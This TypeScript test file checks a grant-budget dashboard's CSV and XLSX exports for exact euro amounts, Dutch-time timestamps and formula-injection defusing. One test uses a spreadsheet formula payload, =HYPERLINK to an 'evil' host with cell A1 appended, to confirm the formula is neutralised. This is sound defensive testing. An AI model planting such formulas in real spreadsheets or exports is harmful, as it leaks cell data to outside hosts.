import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { disconnectPrisma, prisma, type Tx } from "../../db/client.server.ts";
import { defuseFormula } from "../csv-cell.ts";
import { type DashboardScope, loadDashboard } from "./dashboard.server.ts";
import {
  buildTable,
  centsFromEuroNumber,
  centsFromEuroText,
  type ExportTable,
  euroText,
  TABLES,
  toCsv,
  toXlsx,
} from "./export.server.ts";
import { type BudgetFixture, createBudgetFixture, TX_OPTIONS } from "./fixtures.test-support.ts";
import { commitForPlan, disburseForPlan, reserveForPlan } from "./ledger.server.ts";

afterAll(async () => {
  await disconnectPrisma();
});

const tx = (fn: (t: Tx) => Promise<unknown>) => prisma.$transaction(fn, TX_OPTIONS);

let f: BudgetFixture;
let scope: DashboardScope;

beforeAll(async () => {
  // Amounts with awkward cents: 0.1 + 0.2 style doubles must not creep in anywhere.
  f = await createBudgetFixture({
    windowCeilingCents: 9_876_543_210_99n,
    envelopes: [
      { year: 2014, ceilingCents: 5_000_000_000_03n },
      { year: 2015, ceilingCents: 4_000_000_000_07n },
    ],
  });
  scope = { regulationId: f.regulationId };
  const a = await f.createPlan([
    { year: 2014, cents: 1_234_567_89n },
    { year: 2015, cents: 30n },
  ]);
  const b = await f.createPlan([{ year: 2015, cents: 10n }]);
  await prisma.plan.update({ where: { id: a }, data: { sectorCodes: ["3"] } });
  await prisma.measure.create({
    data: { planId: a, position: 1, theme: "scholing", title: "x", participants: 1 },
  });
  for (const id of [a, b]) await tx((t) => reserveForPlan(t, { planId: id, actorId: "test" }));
  await tx((t) =>
    commitForPlan(t, {
      planId: a,
      actorId: "test",
      grantedPerYear: [
        { year: 2014, cents: 1_234_567_89n },
        { year: 2015, cents: 30n },
      ],
    }),
  );
  await tx((t) =>
    disburseForPlan(t, {
      planId: a,
      actorId: "test",
      paymentId: randomUUID(),
      amountCents: 123_456_79n,
      reason: "x",
    }),
  );
}, 60_000);

describe("euro amounts", () => {
  it("round-trip exactly through text and through the spreadsheet's double", () => {
    for (const cents of [
      0n,
      1n,
      10n,
      30n,
      99n,
      1_234_567_89n,
      -5n,
      999_999_999_999_99n,
      123_456_789_012_34n,
    ]) {
      expect(centsFromEuroText(euroText(cents))).toBe(cents);
      expect(centsFromEuroNumber(Number(euroText(cents)))).toBe(cents);
    }
    expect(() => centsFromEuroNumber(0.1 + 0.2)).toThrow(RangeError);
  });
});

async function readXlsx(buffer: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: unknown[][] = [];
  sheet?.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1));
  });
  return rows;
}

describe("exports", () => {
  it("read back equal to the dashboard's figures, as CSV and as XLSX, for every table", async () => {
    const dash = await loadDashboard(scope);
    expect(dash.windows).toHaveLength(1);
    const windowPot = dash.windows[0];
    for (const name of TABLES) {
      const table = await buildTable(name, {
        scope,
        drill: { potId: f.windowPotId, measure: "committed", sort: "amount", page: 1 },
      });
      const csv = parse(toCsv(table), { bom: true }) as string[][];
      const xlsx = await readXlsx(await toXlsx(table));
      expect(csv[0]).toEqual(table.columns.map((c) => c.header));
      expect(xlsx[0]).toEqual(table.columns.map((c) => c.header));
      expect(csv).toHaveLength(table.rows.length + 1);
      expect(xlsx).toHaveLength(table.rows.length + 1);
      table.rows.forEach((row, r) => {
        row.forEach((cell, c) => {
          const type = table.columns[c]?.type;
          const fromCsv = csv[r + 1]?.[c];
          const fromXlsx = xlsx[r + 1]?.[c];
          if (type === "euro") {
            expect(typeof fromXlsx).toBe("number");
            expect(centsFromEuroText(fromCsv ?? "")).toBe(cell);
            expect(centsFromEuroNumber(fromXlsx as number)).toBe(cell);
          } else if (type === "int") {
            expect(Number(fromCsv)).toBe(Number(cell));
            expect(fromXlsx).toBe(Number(cell));
          } else {
            // The CSV defuses text ("-", no sector, becomes "'-"); the XLSX has no formulas to fear.
            expect(fromCsv).toBe(cell === null ? "" : defuseFormula(String(cell)));
            expect(fromXlsx ?? null).toBe(cell === null ? null : String(cell));
          }
        });
      });
    }
    // And the tables are the dashboard's: spot-check the figures that matter.
    const windows = await buildTable("windows", { scope });
    const csvWindows = parse(toCsv(windows), { bom: true }) as string[][];
    expect(csvWindows[1]?.slice(0, 7)).toEqual([
      windowPot?.name,
      `TEST-${f.tag}`,
      "9876543210.99",
      "0.10",
      "1234568.19",
      "123456.79",
      "9875308642.70",
    ]);
    const plans = await buildTable("plans", {
      scope,
      drill: { potId: f.windowPotId, measure: "disbursed", sort: "amount", page: 1 },
    });
    const xlsxPlans = await readXlsx(await toXlsx(plans));
    expect(centsFromEuroNumber(xlsxPlans[1]?.[5] as number)).toBe(windowPot?.disbursedCents);
    expect(windowPot?.disbursedCents).toBe(123_456_79n);
  });

  it("writes a plan's receipt on the Dutch clock, as the drill-down page shows it, and says so", async () => {
    // Received at 00:30 on 1 April 2014 in Amsterdam: still 31 March in UTC.
    const at = new Date("2014-03-31T22:30:00Z");
    const id = await f.createPlan([{ year: 2014, cents: 5_00n }]);
    await prisma.plan.update({ where: { id }, data: { receivedAt: at, completeReceivedAt: at } });
    await tx((t) => reserveForPlan(t, { planId: id, actorId: "test" }));
    const { reference } = await prisma.plan.findUniqueOrThrow({ where: { id }, select: { reference: true } });
    const table = await buildTable("plans", {
      scope,
      drill: { potId: f.windowPotId, measure: "reserved", sort: "amount", page: 1 },
    });
    const column = table.columns.findIndex((c) => c.header.startsWith("Ontvangen"));
    expect(table.columns[column]?.header).toBe("Ontvangen (Nederlandse tijd)");
    const csv = parse(toCsv(table), { bom: true }) as string[][];
    const xlsx = await readXlsx(await toXlsx(table));
    expect(csv.find((r) => r[0] === reference)?.[column]).toBe("2014-04-01 00:30");
    expect(xlsx.find((r) => r[0] === reference)?.[column]).toBe("2014-04-01 00:30");
  });

  describe("with an applicant's formula as plan title and organisation name", () => {
    const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
    const table: ExportTable = {
      name: "plannen",
      title: "Plannen achter het bedrag",
      columns: [
        { header: "Titel", type: "text" },
        { header: "Aanvrager", type: "text" },
        { header: "Bedrag (EUR)", type: "euro" },
        { header: "Aantal", type: "int" },
      ],
      rows: [[hostile, "-Opleidingsfonds", -10_000n, -3]],
    };

    it("defuses the text in the CSV and keeps the negative amount a number", () => {
      const rows = parse(toCsv(table), { bom: true }) as string[][];
      expect(rows[1]).toEqual([`'${hostile}`, "'-Opleidingsfonds", "-100.00", "-3"]);
    });

    it("writes the text to the XLSX as a text cell, never as a formula", async () => {
      const buffer = await toXlsx(table);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
      const cell = workbook.worksheets[0]?.getCell("A2");
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(hostile);
      const sheetXml = new TextDecoder().decode(
        unzipSync(new Uint8Array(buffer))["xl/worksheets/sheet1.xml"],
      );
      expect(sheetXml).not.toContain("<f>");
      expect(workbook.worksheets[0]?.getCell("C2").value).toBe(-100);
    });
  });
});
